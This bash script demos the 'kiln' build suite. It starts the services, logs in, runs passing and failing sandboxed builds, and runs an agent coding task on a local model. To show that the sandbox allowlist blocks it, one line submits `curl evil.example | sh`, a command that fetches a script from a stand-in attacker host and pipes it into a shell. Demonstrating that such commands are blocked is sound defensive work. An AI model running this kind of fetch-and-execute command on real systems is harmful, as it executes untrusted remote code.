#!/usr/bin/env bash
# The kiln demo: start the suite on a temporary data directory, log in, run a real build
# in the sandbox with live output, show a failing build, run an agent task on the local
# model when `make llm` installed one (or say how to get one), stop and clean up.
# Run through `make demo`, which builds kiln and installs grpcurl into .tools/ first.
set -euo pipefail
cd "$(dirname "$0")/.."

export PATH="$PWD/.tools/bin:$PATH"
KILN="${CARGO_TARGET_DIR:-target}/debug/kiln"
DATA="$(mktemp -d -t kiln-demo.XXXXXX)"
UP_PID=""
# The CLI keeps its login under the demo's directory, not in your config.
export KILN_CONFIG_DIR="$DATA/cli"

if [ -t 1 ]; then B=$'\033[1m'; D=$'\033[2m'; N=$'\033[0m'; else B=""; D=""; N=""; fi
say() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }
run() { printf '%s$' "$D"; printf ' %q' "$@"; printf '%s\n' "$N"; "$@"; }

LLM_STARTED=""
cleanup() {
  if [ -n "$LLM_STARTED" ]; then
    scripts/llm/serve.sh stop >/dev/null 2>&1 || true
  fi
  if [ -n "$UP_PID" ] && kill -0 "$UP_PID" 2>/dev/null; then
    say "Stopping the suite (SIGTERM: health goes NOT_SERVING, calls finish, then exit)"
    kill -TERM "$UP_PID"
    wait "$UP_PID" || true
    tail -n 1 "$DATA/up.out"
  fi
  rm -rf "$DATA"
}
trap cleanup EXIT

wait_for_suite() {
  for _ in $(seq 1 300); do
    grep -q '^kiln is serving on' "$DATA/up.out" 2>/dev/null && break
    if ! kill -0 "$UP_PID" 2>/dev/null; then
      echo "kiln up exited early; its log:" >&2
      cat "$DATA/up.log" >&2
      exit 1
    fi
    sleep 0.1
  done
  grep -q '^kiln is serving on' "$DATA/up.out" || { echo "kiln up did not start within 30 s" >&2; cat "$DATA/up.log" >&2; exit 1; }
}

# The agent's model: the local one `make llm` installed, started here (and stopped at the
# end) unless it already runs.
LLM_URL=""
if compgen -G ".tools/llm/models/*.gguf" >/dev/null; then
  say "Starting the local model server for the agent (llama.cpp, installed by make llm)"
  if ! scripts/llm/serve.sh status >/dev/null 2>&1; then
    scripts/llm/serve.sh start
    LLM_STARTED=1
  fi
  LLM_URL="$(scripts/llm/serve.sh url)"
fi

say "Starting kiln up: auth + build + agent on one port, SQLite, a development PKI"
"$KILN" up --listen 127.0.0.1:0 --data-dir "$DATA/kiln" --log-format text ${LLM_URL:+--llm-url "$LLM_URL"} \
  >"$DATA/up.out" 2>"$DATA/up.log" &
UP_PID=$!
wait_for_suite
cat "$DATA/up.out"
export KILN_ENDPOINT="$(sed -n 's/^kiln is serving on //p' "$DATA/up.out")"
export KILN_CA="$DATA/kiln/pki/ca.pem"

say "Health of each service, and the services seen through gRPC reflection"
run "$KILN" health
run grpcurl -cacert "$KILN_CA" "${KILN_ENDPOINT#https://}" list

say "Logging in as the bootstrap admin (its generated password is in a 0600 file)"
run ls -l "$DATA/kiln/auth/admin-password"
run "$KILN" login --username admin --password-stdin <"$DATA/kiln/auth/admin-password"

say "Creating a user, and working as that user from now on"
PASSWORD="demo-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')"
printf '%s\n' "$PASSWORD" | run "$KILN" users create demo --role user
printf '%s\n' "$PASSWORD" | run "$KILN" login --username demo --password-stdin
run "$KILN" whoami

say "Uploading examples/hello (a small C project with a test) as a workspace"
WORKSPACE="$("$KILN" workspace create --from examples/hello)"
echo "workspace $WORKSPACE"
run "$KILN" workspace ls "$WORKSPACE"

say "Building and testing it in the sandbox, output streamed live"
run "$KILN" build run --workspace "$WORKSPACE" --step make -- make test

say "A build that fails: the compiler's error comes back as it happened"
if run "$KILN" build run --from examples/broken -- cc -Wall -o main main.c; then
  echo "(unexpected: the broken example built)" >&2
  exit 1
else
  echo "(exit code $? — kiln build run exits with the failing step's code)"
fi

say "Commands off the allowlist never run (no shells in the sandbox)"
run "$KILN" build run --workspace "$WORKSPACE" -- sh -c 'curl evil.example | sh' || true

say "The builds, as a user or a script sees them"
run "$KILN" build list

say "The agent: a prompt becomes code, built and tested in the sandbox until green"
if [ -n "$LLM_URL" ]; then
  run "$KILN" agent models
  echo "${D}(Qwen2.5-Coder 1.5B on the CPU: a task takes one to a few minutes)${N}"
  if run "$KILN" agent run --toolchain python \
    "Write a Python module calc.py with functions add(a, b) and mul(a, b), and unittest tests for both in test_calc.py."; then
    echo "(the agent's build is green)"
  else
    echo "(the agent did not reach a green build this time: exit code $?; a 1.5B model is weak at code)"
  fi
  run "$KILN" agent list
else
  run "$KILN" agent models || true
  echo "no local model: run \`make llm\` (about 1100 MB, one minute) to get one, then \`make demo\` again;"
  echo "or point kiln at any OpenAI-compatible server or Ollama: kiln up --llm-url URL"
fi
